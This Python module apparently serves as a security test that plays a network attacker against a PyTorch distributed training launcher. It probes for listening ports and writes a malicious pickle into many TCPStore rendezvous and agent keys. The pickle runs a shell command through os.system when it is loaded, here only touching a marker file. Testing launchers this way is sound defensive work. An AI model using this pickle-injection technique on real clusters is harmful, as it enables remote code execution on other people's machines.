"""What somebody on the network does: look for open ports, connect, and put pickles into a run's store."""

import os
import pickle
import socket
from datetime import timedelta
from pathlib import Path
from typing import Any

import psutil


class Payload:
    """A pickle that touches a file where it is read."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Return the command that unpickling runs."""
        return os.system, (f"touch '{self.marker}'",)


def listening(processes: list[psutil.Process]) -> list[tuple[int, str, int]]:
    """Process, address and port of every socket of these processes that takes connections or datagrams."""
    return [
        (process.pid, connection.laddr.ip, connection.laddr.port)
        for process in processes
        for connection in process.net_connections("inet")
        if connection.status == psutil.CONN_LISTEN
        or (connection.type == socket.SOCK_DGRAM and connection.laddr)
    ]


def other_addresses() -> list[str]:
    """Addresses of this machine that are none of the loopback's."""
    found = [each for name, addresses in psutil.net_if_addrs().items() if name != "lo" for each in addresses]
    return [each.address for each in found if each.family == socket.AF_INET]


def refuses(address: str, port: int) -> bool:
    """Return whether nobody answers there."""
    try:
        with socket.create_connection((address, port), 5):
            return False
    except ConnectionRefusedError:
        return True


def poison(port: int, marker: Path) -> None:
    """Put a pickle under every key that a launcher, an agent of torch or its c10d rendezvous reads."""
    from torch.distributed import TCPStore  # type: ignore[attr-defined]

    store = TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=10))
    bare = ["attempt", "end", "left"]
    bare += [f"{attempt}: {name}" for attempt in (0, 1) for name in ("go", "failed", "node 0", "node 1")]
    agent = [f"torchelastic/{name}/0" for name in ("role_info", "assigned_ranks")]
    rendezvous = [f"torch.rendezvous.{run}" for run in ("dsv3", "dsv3-0", "dsv3-1", "none")]
    payload: Any = pickle.dumps(Payload(marker))
    for prefix in ("", "agent 0/", "agent 1/", "attempt 0/", "default_pg/"):
        for key in (*bare, *agent, *rendezvous):
            store.set(prefix + key, payload)
